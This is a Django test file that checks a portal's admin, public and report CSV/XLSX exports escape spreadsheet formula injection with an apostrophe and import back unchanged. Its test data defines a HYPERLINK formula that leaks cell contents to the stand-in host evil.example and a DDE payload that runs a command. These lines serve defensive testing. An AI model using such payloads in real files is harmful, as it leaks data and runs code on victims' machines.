"""Formula injection: text a spreadsheet would run stays text in every CSV and XLSX file the portal writes."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from import_export.admin import ExportMixin

from departments.policy import Actor
from indicators.models import AuditChannel, IndicatorValue
from indicators.services import value_approve, value_create, value_submit
from kernel.cells import safe_cell, unquote_cell
from kernel.resources import SafeCellsModelResource
from reports.rendering import render_csv, render_xlsx
from tests.factories import IndicatorFactory, TargetFactory

pytestmark = pytest.mark.django_db

BACKEND = "django.contrib.auth.backends.ModelBackend"
API = AuditChannel.API
VALUES = "/admin/indicators/indicatorvalue/"
BOM = "\ufeff"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
ATTACKS = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def client_for(user):
    client = Client()
    client.force_login(user, backend=BACKEND)
    return client


def entered(cast, indicator, *, note, approve=False):
    value = value_create(indicator=indicator, unit=cast.unit_a, period="2023", numerator=45, denominator=100,
                         note=note, actor=Actor(cast.admin), channel=API)
    if approve:
        value = value_submit(value=value, actor=Actor(cast.admin), channel=API)
        value = value_approve(value=value, actor=Actor(cast.reviewer), channel=API)
    return value


def admin_export(user, file_format):
    index = {"xlsx": "0", "csv": "1"}[file_format]
    response = client_for(user).post(f"{VALUES}export/", {"format": index, "resource": "0"})
    assert response.status_code == 200, response.content[:500]
    return response.content


def report_content(text):
    return {"kind": "compliance", "period": "2023", "title": text, "scope": None, "generated_at": None,
            "summary": {}, "sections": [{
                "key": "s", "title": text, "columns": [{"key": "name", "title": text, "type": "text"},
                                                         {"key": "score", "title": "Điểm", "type": "number"}],
                "rows": [{"name": text, "score": Decimal("-1.5")}], "note": text}]}


# --- the helper ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ATTACKS)
def test_safe_cell_puts_an_apostrophe_before_text_a_spreadsheet_would_run(text):
    assert safe_cell(text) == "'" + text
    assert unquote_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", [-5, 2.5, Decimal("-1.25"), None, "-5", "+1.25", "-0.50", "Hà Nội", "", "a=b"])
def test_safe_cell_leaves_numbers_and_plain_text_as_they_are(value):
    assert safe_cell(value) == value
    assert type(safe_cell(value)) is type(value)


# --- admin exports --------------------------------------------------------------------------------------


def test_every_admin_export_writes_its_cells_through_safe_cell():
    exporting = [model_admin for model_admin in admin.site._registry.values() if isinstance(model_admin, ExportMixin)]
    assert exporting  # the values export at least
    for model_admin in exporting:
        for resource_class in model_admin.get_export_resource_classes(None):
            assert issubclass(resource_class, SafeCellsModelResource), resource_class


def test_admin_values_xlsx_export_writes_a_formula_note_as_text(cast):
    entered(cast, IndicatorFactory(code="FIBRE"), note=FORMULA)
    sheet = openpyxl.load_workbook(io.BytesIO(admin_export(cast.admin, "xlsx"))).active
    row = {header.value: cell for header, cell in zip(sheet[1], sheet[2], strict=True)}
    assert row["note"].value == "'" + FORMULA and row["note"].data_type == "s"
    assert row["numerator"].value == 45 and row["numerator"].data_type == "n"  # numbers stay numbers


def test_admin_values_csv_export_writes_a_formula_note_behind_an_apostrophe(cast):
    entered(cast, IndicatorFactory(code="FIBRE"), note=FORMULA)
    rows = list(csv.DictReader(io.StringIO(admin_export(cast.admin, "csv").decode("utf-8-sig"))))
    assert rows[0]["note"] == "'" + FORMULA
    assert rows[0]["numerator"] == "45.0000"


def test_admin_values_export_with_a_formula_note_imports_back_unchanged(cast):
    value = entered(cast, IndicatorFactory(code="FIBRE"), note=FORMULA)
    for file_format in ("xlsx", "csv"):
        upload = SimpleUploadedFile(f"so-lieu.{file_format}", admin_export(cast.admin, file_format))
        response = client_for(cast.admin).post(f"{VALUES}import/", {"file": upload})
        assert response.context["summary"]["counts"]["unchanged"] == 1, file_format
        assert IndicatorValue.objects.get(pk=value.pk).note == FORMULA


# --- the public download --------------------------------------------------------------------------------


def test_public_data_csv_writes_formula_text_behind_an_apostrophe(cast):
    indicator = IndicatorFactory(code="FIBRE", name=FORMULA, name_en="@SUM(A1:A9)")
    TargetFactory(indicator=indicator, year=2025, value=80)
    entered(cast, indicator, note="", approve=True)
    response = Client().get("/public/data.csv", {"period": "2023"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8").removeprefix(BOM))))
    assert rows[0]["name"] == "'" + FORMULA and rows[0]["name_en"] == "'@SUM(A1:A9)"
    assert rows[0]["value"] == "45" and rows[0]["target"] == "80"


# --- report files ---------------------------------------------------------------------------------------


def test_report_csv_writes_formula_text_behind_an_apostrophe():
    rows = list(csv.reader(io.StringIO(render_csv(report_content(FORMULA)).decode("utf-8-sig"))))
    assert rows[0] == ["'" + FORMULA] and rows[1] == ["'" + FORMULA, "Điểm"]
    assert rows[2] == ["'" + FORMULA, "-1.50"]


def test_report_xlsx_writes_formula_text_behind_an_apostrophe():
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(report_content(FORMULA))))
    texts = [cell.value for sheet in book for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert "'" + FORMULA in texts and all(text.startswith("'=") for text in texts)  # a sheet name is cut short
    numbers = [cell.value for row in book.worksheets[1].iter_rows() for cell in row if cell.data_type == "n"]
    assert -1.5 in numbers
